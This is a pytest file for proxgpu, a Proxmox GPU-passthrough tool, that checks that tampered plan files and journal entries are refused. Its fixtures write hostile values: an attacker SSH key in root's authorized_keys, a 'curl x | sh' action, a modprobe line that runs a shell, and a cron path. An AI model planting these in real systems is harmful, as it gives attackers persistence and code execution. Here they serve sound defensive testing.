"""Trust only what the run signed: a saved plan and a journal entry are used only as proxgpu
wrote them (issue 21, point 3).

Each case saves a real plan file or makes a real journal entry on a copy of the ct200 example in
a scratch folder, edits it as someone who can write the file but not read the admin's key would,
and asserts the exact refusal through the command line (in process) and that neither the tree
nor anything outside the scratch folder changed. The key lives in the session's own
``$XDG_CONFIG_HOME`` (tests/conftest.py); the cases that need another key point
``XDG_CONFIG_HOME`` at a folder of their own.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from proxgpu.apply import signing
from proxgpu.cli import main
from proxgpu.errors import UsageError
from tests.support.hostile import Scene, scene
from tests.support.trees import tree_bytes

SPLIT = ["--lxc", "200", "--vm", "300"]
JOURNAL = "var/lib/proxgpu/journal"


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """Run proxgpu in process: exit code, stdout, stderr."""
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def saved_plan(hostile: Scene, capsys: pytest.CaptureFixture[str]) -> Path:
    """``plan --out`` for the ct200 split, in the scratch folder."""
    path = hostile.scratch / "split.plan"
    code, _, err = cli(capsys, "plan", "--root", str(hostile.tree), *SPLIT, "--out", str(path))
    assert code == 0, err
    return path


def edit_json(path: Path, change: Any) -> None:
    document = json.loads(path.read_text())
    change(document)
    path.write_text(json.dumps(document, indent=2))


def refused_apply(
    hostile: Scene, capsys: pytest.CaptureFixture[str], plan: Path, *extra: str
) -> tuple[int, str]:
    before = tree_bytes(hostile.tree)
    code, _, err = cli(capsys, "apply", "--root", str(hostile.tree), "--plan", str(plan), "--yes")
    assert tree_bytes(hostile.tree) == before, "nothing written"
    hostile.assert_outside_unchanged()
    return code, err


def test_a_saved_plan_applies_as_it_was_signed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = scene(tmp_path)
    plan = saved_plan(hostile, capsys)
    assert json.loads(plan.read_text())["signature"].startswith("hmac-sha256:")
    code, out, err = cli(capsys, "apply", "--root", str(hostile.tree), "--plan", str(plan), "--yes")
    assert code == 0, err
    assert "10 files written" in out
    hostile.assert_outside_unchanged()


def _add_file(document: dict[str, Any]) -> None:
    document["changes"]["files"].append(
        {
            "path": "/root/.ssh/authorized_keys",
            "before": None,
            "after": "ssh-ed25519 AAAA attacker\n",
            "mode": 384,
        }
    )
    document["sha256_before"]["/root/.ssh/authorized_keys"] = None


def _add_action(document: dict[str, Any]) -> None:
    document["changes"]["actions"].append({"argv": ["sh", "-c", "curl x | sh"], "why": "x"})


def _retarget(document: dict[str, Any]) -> None:
    first = document["changes"]["files"][0]
    first["after"] = "install vfio-pci /bin/sh -c 'id > /tmp/owned'\n"


def _edit_hash_and_text(document: dict[str, Any]) -> None:
    lxc = next(f for f in document["changes"]["files"] if f["path"] == "/etc/pve/lxc/200.conf")
    lxc["before"] = "arch: amd64\n"
    document["sha256_before"]["/etc/pve/lxc/200.conf"] = (
        "d1b9a9f94e1ba5c0b0ee7ae1ad1bd9d9b7b6b1b52f6a5a1e4b0f5d5b8c2b2c2a"
    )


def _other_host(document: dict[str, Any]) -> None:
    document["host"] = "dir:/elsewhere"


@pytest.mark.parametrize(
    "change", [_add_file, _add_action, _retarget, _edit_hash_and_text, _other_host]
)
def test_a_plan_file_edited_after_it_was_saved_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], change: Any
) -> None:
    hostile = scene(tmp_path)
    plan = saved_plan(hostile, capsys)
    edit_json(plan, change)
    code, err = refused_apply(hostile, capsys, plan)
    assert code == UsageError.exit_code
    assert err == (
        f"proxgpu: {plan}: its signature does not match: edited since proxgpu wrote it; "
        "refused: save it again with `proxgpu plan --out` on this machine, or pass "
        "--trust-unsigned if you have checked it by hand\n"
    )


def test_an_unsigned_plan_file_is_refused_naming_the_way_out_which_then_works(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = scene(tmp_path)
    plan = saved_plan(hostile, capsys)
    edit_json(plan, lambda d: d.pop("signature"))
    code, err = refused_apply(hostile, capsys, plan)
    assert code == UsageError.exit_code
    assert "it is not signed (written before proxgpu signed what it writes)" in err
    assert "--trust-unsigned" in err
    root = str(hostile.tree)
    argv = ["apply", "--root", root, "--plan", str(plan), "--yes", "--trust-unsigned"]
    code, _, err = cli(capsys, *argv)
    assert code == 0, err
    hostile.assert_outside_unchanged()


def test_a_plan_signed_with_another_admins_key_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = scene(tmp_path)
    plan = saved_plan(hostile, capsys)
    mine = signing.key_id(signing.load_key())
    monkeypatch.setenv("XDG_CONFIG_HOME", str(hostile.scratch / "other-admin"))
    theirs = signing.key_id(signing.load_key())
    code, err = refused_apply(hostile, capsys, plan)
    assert code == UsageError.exit_code
    assert f"it is signed by another key ({mine}), not by yours ({theirs})" in err


# --- the key itself ------------------------------------------------------------------------------


def test_the_key_is_made_private_on_first_use(tmp_path: Path) -> None:
    hostile = scene(tmp_path)
    path = hostile.scratch / "config/proxgpu/key"
    key = signing.load_key(path)
    assert len(key) == 32 and signing.load_key(path) == key
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    assert oct(path.parent.stat().st_mode & 0o777) == "0o700"
    hostile.assert_outside_unchanged()


def test_a_key_others_can_read_is_refused(tmp_path: Path) -> None:
    hostile = scene(tmp_path)
    path = hostile.scratch / "key"
    path.write_bytes(b"k" * 32)
    path.chmod(0o644)
    with pytest.raises(UsageError) as refused:
        signing.load_key(path)
    assert str(refused.value) == (
        f"{path}: the signing key is readable by others (mode 644): chmod 600 {path}"
    )
    hostile.assert_outside_unchanged()


def test_a_key_that_is_a_symlink_is_not_followed(tmp_path: Path) -> None:
    hostile = scene(tmp_path)
    planted = hostile.victim("planted-key", b"p" * 32)
    path = hostile.scratch / "key"
    path.symlink_to(planted)
    with pytest.raises(UsageError) as refused:
        signing.load_key(path)
    assert str(refused.value) == (
        f"{path}: cannot read the signing key (Too many levels of symbolic links)"
    )
    hostile.assert_outside_unchanged()


# --- the journal ---------------------------------------------------------------------------------


def applied(hostile: Scene, capsys: pytest.CaptureFixture[str]) -> Path:
    """Apply the split through the CLI; the journal entry's file."""
    code, _, err = cli(capsys, "apply", "--root", str(hostile.tree), *SPLIT, "--yes")
    assert code == 0, err
    (entry,) = (hostile.tree / JOURNAL).glob("*.json")
    return entry


def _edit_backup_hash(entry: dict[str, Any]) -> None:
    # What an attacker would do to have a backup of their own restored: the hash must match it.
    edited = next(f for f in entry["files"] if f["backup"] is not None)
    edited["sha256_before"] = "0" * 64


def _edit_path(entry: dict[str, Any]) -> None:
    entry["files"][0]["path"] = "/etc/cron.d/proxgpu"


def _edit_status(entry: dict[str, Any]) -> None:
    entry["status"] = "in-progress"


@pytest.mark.parametrize("change", [_edit_backup_hash, _edit_path, _edit_status])
def test_a_journal_entry_edited_by_hand_is_refused_by_rollback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], change: Any
) -> None:
    hostile = scene(tmp_path)
    entry = applied(hostile, capsys)
    edit_json(entry, change)
    before = tree_bytes(hostile.tree)
    code, _, err = cli(capsys, "rollback", "--root", str(hostile.tree), "--yes")
    assert code == 15
    assert err == (
        f"proxgpu: dir:{hostile.tree}: {entry}: its signature does not match: edited since "
        "proxgpu wrote it; refused: act on it from the machine whose key "
        f"({signing.key_path()}) wrote it, or pass --trust-unsigned if you have checked the "
        "entry by hand\n"
    )
    assert tree_bytes(hostile.tree) == before
    hostile.assert_outside_unchanged()


def test_an_old_unsigned_entry_is_refused_then_rolled_back_with_trust_unsigned(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = scene(tmp_path)
    original = tree_bytes(hostile.tree)
    entry = applied(hostile, capsys)
    edit_json(entry, lambda e: e.pop("signature"))
    code, _, err = cli(capsys, "rollback", "--root", str(hostile.tree), "--yes")
    assert code == 15
    assert "it is not signed (written before proxgpu signed what it writes)" in err
    assert "--trust-unsigned" in err
    argv = ["rollback", "--root", str(hostile.tree), "--yes", "--trust-unsigned"]
    code, _, err = cli(capsys, *argv)
    assert code == 0, err
    after = tree_bytes(hostile.tree)
    assert {k: v for k, v in after.items() if not k.startswith("var/lib/proxgpu")} == original
    # The rolled-back entry is written signed again.
    assert json.loads(entry.read_text())["signature"].startswith("hmac-sha256:")
    hostile.assert_outside_unchanged()


def test_an_entry_signed_by_this_machine_rolls_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = scene(tmp_path)
    original = tree_bytes(hostile.tree)
    applied(hostile, capsys)
    code, _, err = cli(capsys, "rollback", "--root", str(hostile.tree), "--yes")
    assert code == 0, err
    after = tree_bytes(hostile.tree)
    assert {k: v for k, v in after.items() if not k.startswith("var/lib/proxgpu")} == original
    assert os.environ["XDG_CONFIG_HOME"] not in str(hostile.parent)
    hostile.assert_outside_unchanged()
